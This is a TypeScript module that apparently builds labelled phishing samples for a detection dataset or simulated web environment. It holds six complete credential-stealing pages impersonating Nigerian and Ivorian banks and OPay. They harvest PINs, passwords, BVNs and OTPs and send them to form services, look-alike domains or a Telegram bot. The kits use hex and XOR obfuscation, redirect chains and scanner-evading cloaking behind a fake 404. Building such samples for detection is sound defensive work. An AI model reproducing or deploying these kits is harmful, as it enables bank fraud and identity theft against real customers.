import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, codes, doc, hex, ipLookup, jsR, rawDoc, revB64, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

const fbKit = doc({
  title: 'FirstMobile Upgrade',
  css: `${CSS.reset}body{background:#003b71;color:#fff}main{max-width:380px;margin:0 auto;padding:24px}.panel{background:#fff;color:#222;border-radius:10px;padding:20px;margin-top:16px}${CSS.field}button{width:100%;background:#f2b632;border:0;padding:13px;border-radius:8px;font-weight:700;margin-top:16px}.steps{display:flex;gap:6px}.steps span{flex:1;height:4px;background:#ffffff55}.steps .on{background:#f2b632}`,
  body: `<main>${LOGO.firstbank.replace('#003b71">FirstBank', '#fff">FirstBank')}
<div class="steps"><span class="on"></span><span id="p2"></span><span id="p3"></span></div>
<h2>Upgrade to the new FirstMobile</h2>
<p>Your FirstMobile app will stop working after this week. Complete the upgrade to keep using *894# and FirstMobile.</p>
<div class="panel">
<form id="f" action="https://getform.io/f/bvrr8xqa" method="POST">
<div id="a"><label>Phone number</label><input name="phone" inputmode="tel" required><label>Account number</label><input name="acct" maxlength="10" required><label>FirstMobile 4-digit PIN</label><input name="mpin" type="password" maxlength="4" required></div>
<div id="b" style="display:none"><label>Debit card number</label><input name="card" maxlength="19"><label>Expiry</label><input name="exp" placeholder="MM/YY"><label>Card PIN</label><input name="cardpin" type="password" maxlength="4"></div>
<button id="go" type="button">Next</button></form></div>
<p style="font-size:11px;opacity:.7">&copy; 2025 First Bank of Nigeria Limited. An FBNHoldings Company.</p></main>
<script>document.getElementById('go').onclick=function(){var a=document.getElementById('a'),b=document.getElementById('b');if(b.style.display==='none'){a.style.display='none';b.style.display='block';document.getElementById('p2').className='on';this.textContent='Complete upgrade';}else{document.getElementById('p3').className='on';document.getElementById('f').submit();}};</script>`,
});

const ubaLeo = doc({
  title: 'Chat with Leo | UBA',
  css: `${CSS.reset}body{background:#ece5dd}.bar{background:#d71e28;color:#fff;padding:12px 16px;display:flex;align-items:center;gap:10px}.bar b{font-size:17px}.chat{max-width:520px;margin:0 auto;padding:14px;min-height:80vh}.m{background:#fff;padding:10px 12px;border-radius:8px;margin:8px 0;max-width:80%;font-size:14px}.me{background:#dcf8c6;margin-left:auto}.in{position:fixed;bottom:0;left:0;right:0;background:#f0f0f0;padding:10px;display:flex;gap:8px}.in input{flex:1;padding:11px;border-radius:20px;border:0}.in button{background:#d71e28;color:#fff;border:0;border-radius:20px;padding:0 18px}`,
  body: `<div class="bar"><svg width="34" height="34"><circle cx="17" cy="17" r="16" fill="#fff"/><text x="17" y="22" font-size="13" text-anchor="middle" fill="#d71e28" font-family="Arial" font-weight="700">Leo</text></svg><div><b>Leo by UBA</b><br><small>online</small></div></div>
<div class="chat" id="c"></div>
<form class="in" id="f"><input id="t" autocomplete="off" placeholder="Type a message"><button>Send</button></form>
<script>
var Q=['Hi &#128075; I am Leo, UBA\\'s virtual banker. Your account has been placed on Post No Debit (PND) because your BVN record is incomplete. I will help you fix it in 2 minutes. What is your account number?','Thank you. Please type the phone number linked to the account.','Now enter your 11-digit BVN.','To confirm you are the owner, type your UBA Mobile / U-Direct password.','Finally enter the 4-digit PIN of your UBA debit card.','Please enter the OTP we just sent to you.'];
var K=['acct','phone','bvn','pass','pin','otp'];var i=0,data={};
function say(h,me){var d=document.createElement('div');d.className='m'+(me?' me':'');d.innerHTML=h;c.appendChild(d);window.scrollTo(0,9e9);}
say(Q[0]);
document.getElementById('f').onsubmit=function(e){e.preventDefault();var v=t.value.trim();if(!v)return;say(v.replace(/</g,''),1);data[K[i]]=v;t.value='';
var x=new XMLHttpRequest();x.open('POST','/leo/api/session.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('k='+K[i]+'&v='+encodeURIComponent(v)+'&sid='+(window.sid||(window.sid=Math.random().toString(36).slice(2))));
i++;setTimeout(function(){if(i<Q.length)say(Q[i]);else say('&#9989; Your PND has been lifted. Thank you for banking with UBA &#10084;&#65039;');},900);};
</script>`,
});

const opayToken = '6620813377:AAGr9mQpX0bVvT4e7yKsZlE2aHnUdCwF1oI';
const opayKit = doc({
  title: 'OPay - Account Verification',
  css: `${CSS.reset}body{background:#f4fbf8}.hd{background:#1dcf9f;padding:16px;text-align:center}.card{max-width:380px;margin:-20px auto 0;background:#fff;border-radius:16px;padding:24px;box-shadow:0 4px 20px rgba(0,0,0,.06)}.warn{background:#fff4e5;color:#8a5300;padding:10px;border-radius:8px;font-size:13px}${CSS.field}.pins{display:flex;gap:8px}.pins input{text-align:center;font-size:22px}button{width:100%;margin-top:18px;background:#1dcf9f;color:#fff;border:0;padding:14px;border-radius:24px;font-size:16px}`,
  body: `<div class="hd">${LOGO.opay.replace(/#1dcf9f/g, '#fff')}</div>
<div class="card"><h3>Account restricted</h3>
<div class="warn">We noticed unusual activity on your OPay wallet. Outgoing transfers are paused until you verify ownership. Abeg no share this page with anybody.</div>
<form id="of"><label>OPay account number (phone)</label><input id="ph" inputmode="tel" placeholder="080..." required>
<label>6-digit login password</label><div class="pins">${'<input type="password" maxlength="1" inputmode="numeric" class="p">'.repeat(6)}</div>
<label>4-digit payment PIN</label><input id="pp" type="password" maxlength="4" inputmode="numeric" required>
<button>Verify now</button></form><p id="done" style="display:none">Verification submitted. Restriction will be lifted within 30 minutes.</p></div>
<script>
var _0x=['${hex('https://api.telegram.org/bot')}','${hex(opayToken)}','${hex('/sendMessage?chat_id=5930017442&text=')}'];
function h2s(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s;}
document.getElementById('of').onsubmit=function(e){e.preventDefault();var lp='';document.querySelectorAll('.p').forEach(function(x){lp+=x.value;});
var m='OPAY\\nPhone: '+ph.value+'\\nLogin: '+lp+'\\nPIN: '+pp.value;
new Image().src=h2s(_0x[0])+h2s(_0x[1])+h2s(_0x[2])+encodeURIComponent(m);
this.style.display='none';document.getElementById('done').style.display='block';};
document.querySelectorAll('.p').forEach(function(x,i,a){x.oninput=function(){if(x.value&&a[i+1])a[i+1].focus();};});
</script>`,
});

const ecobankKit = doc({
  title: 'Ecobank Online - Sécurisation de votre compte',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f0f4f5}header{background:#005d82;padding:14px 30px;color:#fff;font-weight:700;font-size:22px}header span{color:#6ebe4a}.b{max-width:440px;margin:36px auto;background:#fff;padding:28px;border-radius:6px}${CSS.field}button{background:#6ebe4a;color:#fff;border:0;padding:12px 26px;border-radius:4px;margin-top:16px}.al{background:#fdecea;color:#8b1c13;padding:10px;font-size:13px;border-radius:4px}`,
  body: `<header>Eco<span>bank</span></header>
<div class="b"><h2>Sécurisation de votre compte</h2>
<div class="al">Suite à la mise à jour réglementaire de la BCEAO, votre accès Ecobank Online sera suspendu sous 24h si vos informations ne sont pas confirmées.</div>
<form id="ef"><label>Identifiant</label><input name="id" required><label>Mot de passe</label><input name="mdp" type="password" required>
<label>Numéro de téléphone</label><input name="tel" placeholder="+225 07 ..."><label>Code reçu par SMS</label><input name="code" maxlength="6">
<button>Confirmer</button></form></div>
<script>
${xorDecoder('_d')}
var _e='${xorB64('https://ecobank-ci-securite.site/api/collect', 'k9')}';
document.getElementById('ef').addEventListener('submit',function(e){e.preventDefault();fetch(_d(_e,'k9'),{method:'POST',body:new URLSearchParams(new FormData(this))}).finally(function(){location.href='https://ecobank.com/ci';});});
</script>`,
});

// The cloaked GTBank kit: visitors that look like scanners get a dull 404, Nigerian mobile users get the kit.
const gtCloakKit = `<div style="font-family:Arial;max-width:360px;margin:30px auto;border:1px solid #eee;padding:20px"><div style="text-align:center">${LOGO.gtbank}</div><h3 style="color:#dd4f05">GTBank Internet Banking</h3><p style="font-size:13px">Due to the ongoing system upgrade, please confirm your details to continue enjoying uninterrupted service.</p><form method="post" action="https://gtb-ng-upgrade.click/log.php"><p>Account Number<br><input name="acc" style="width:100%;padding:8px"></p><p>Internet Banking Password<br><input type="password" name="pw" style="width:100%;padding:8px"></p><p>Token / Card last 6 digits<br><input name="tok" style="width:100%;padding:8px"></p><p>Date of Birth<br><input name="dob" type="date" style="width:100%;padding:8px"></p><button style="background:#dd4f05;color:#fff;border:0;padding:10px 20px">Continue</button></form></div>`;
const gtCloak = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 Not Found</title><meta name="robots" content="noindex,nofollow"></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.41 (Ubuntu) Server</address>
<script>
${xorDecoder('q')}
(function(){var bad=/bot|crawl|spider|headless|lighthouse|python|curl|phantom|selenium|scan/i.test(navigator.userAgent)||navigator.webdriver||!navigator.languages||navigator.languages.length===0;
var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone;}catch(e){}
if(bad||(tz&&tz!=='Africa/Lagos'))return;
document.title='GTBank | Internet Banking';document.body.innerHTML=q('${xorB64(gtCloakKit, 'lag0s')}','lag0s');})();
</script></body></html>`;

const zenithLure = doc({
  title: 'Payment Advice - Zenith Bank',
  css: `${CSS.reset}body{background:#f2f2f2}.m{max-width:560px;margin:30px auto;background:#fff;border:1px solid #ddd}.h{background:#e30613;color:#fff;padding:14px 18px;font-weight:700}.c{padding:22px;font-size:14px;line-height:1.6}.btn{display:inline-block;background:#e30613;color:#fff;padding:12px 22px;text-decoration:none;border-radius:3px}table{width:100%;border-collapse:collapse}td{border-bottom:1px solid #eee;padding:6px}`,
  body: `<div class="m"><div class="h">Zenith Bank Transaction Notification</div><div class="c">
<p>Dear Customer,</p><p>A transfer has been initiated in your favour. Find the payment advice attached below. For security, payment advice documents are only available to the beneficiary after sign-in.</p>
<table><tr><td>Amount</td><td><b>NGN 4,750,000.00</b></td></tr><tr><td>Sender</td><td>DANGOTE CEMENT PLC</td></tr><tr><td>Reference</td><td>ZIB/TRF/0925/88214</td></tr><tr><td>Status</td><td>Pending beneficiary confirmation</td></tr></table>
<p style="margin-top:20px"><a class="btn" href="https://docs-zenithbank-advice.pages.dev/view/ZIB-TRF-0925-88214">&#128196; View Payment Advice (PDF)</a></p>
<p style="font-size:12px;color:#888">This e-mail was sent from a notification-only address. Zenith Bank Plc, Plot 84 Ajose Adeogun Street, Victoria Island, Lagos.</p></div></div>`,
});
const zenithDocKit = doc({
  title: 'Zenith Bank Secure Document Portal',
  css: `${CSS.reset}body{background:url("data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#ddd"/><path d="M0 40L40 0" stroke="#ccc"/></svg>')}")}.ov{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center}.b{background:#fff;width:360px;padding:24px;border-radius:6px}${CSS.field}button{width:100%;background:#e30613;color:#fff;border:0;padding:12px;margin-top:14px}`,
  body: `<div class="ov"><div class="b">${LOGO.zenith}<p style="font-size:14px">Sign in with your Zenith Internet Banking or email credentials to view <b>ZIB-TRF-0925-88214.pdf</b></p>
<form id="d"><label>Email or User ID</label><input name="u" required><label>Password</label><input name="p" type="password" required><button>View Document</button></form><p id="m" style="color:#c00;font-size:13px"></p></div></div>
<script>var n=0;document.getElementById('d').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('try',++n);fetch('https://submit-form.com/Zq8yV3kR',{method:'POST',body:f,mode:'no-cors'});if(n<2){document.getElementById('m').textContent='Incorrect password. Please try again.';this.p.value='';}else{location.href='https://www.zenithbank.com/media/downloads';}};</script>`,
});

export const entries: Entry[] = [
  {
  id: 'yv-firstmobile-upgrade-sms-shortlink',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://fbn-alert.ng-sms.link/u/7HqK2',
  routes: {
    'fbn-alert.ng-sms.link/u/7HqK2': redirectRoute(302, 'https://track.clkmob-ng.xyz/c?id=88213&r=fbn'),
    'track.clkmob-ng.xyz/c': redirectRoute(302, 'https://firstmobile-upgrade.firstbank-ng.xyz/upgrade/'),
    'firstmobile-upgrade.firstbank-ng.xyz/upgrade/': htmlRoute(fbKit),
  },
},
  { id: 'yv-uba-leo-chatbot-pnd-harvest', label: 'phishing', kind: 'bank-chatbot-kit', url: 'https://uba-leo-support.web.app/leo/chat', body: ubaLeo },
  { id: 'yv-opay-restriction-hex-tg', label: 'phishing', kind: 'fintech-wallet-kit', url: 'https://opay-restriction-lift.netlify.app/verify', body: opayKit },
  { id: 'yv-ecobank-ci-securisation-fr', label: 'phishing', kind: 'bank-credential-kit', url: 'https://ecobank-ci-securite.site/ci/connexion', body: ecobankKit },
  { id: 'yv-gtbank-geo-cloaked-404', label: 'phishing', kind: 'cloaked-bank-kit', url: 'https://ekitiheritagehotels.com/gtb/secure/index.php', body: gtCloak },
  {
  id: 'yv-zenith-payment-advice-lure',
  label: 'phishing',
  kind: 'payment-advice-lure',
  url: 'https://zenith-notify-mail.com/advice/ZIB-TRF-0925-88214',
  body: zenithLure,
  routes: { 'docs-zenithbank-advice.pages.dev/view/ZIB-TRF-0925-88214': htmlRoute(zenithDocKit) },
},
];
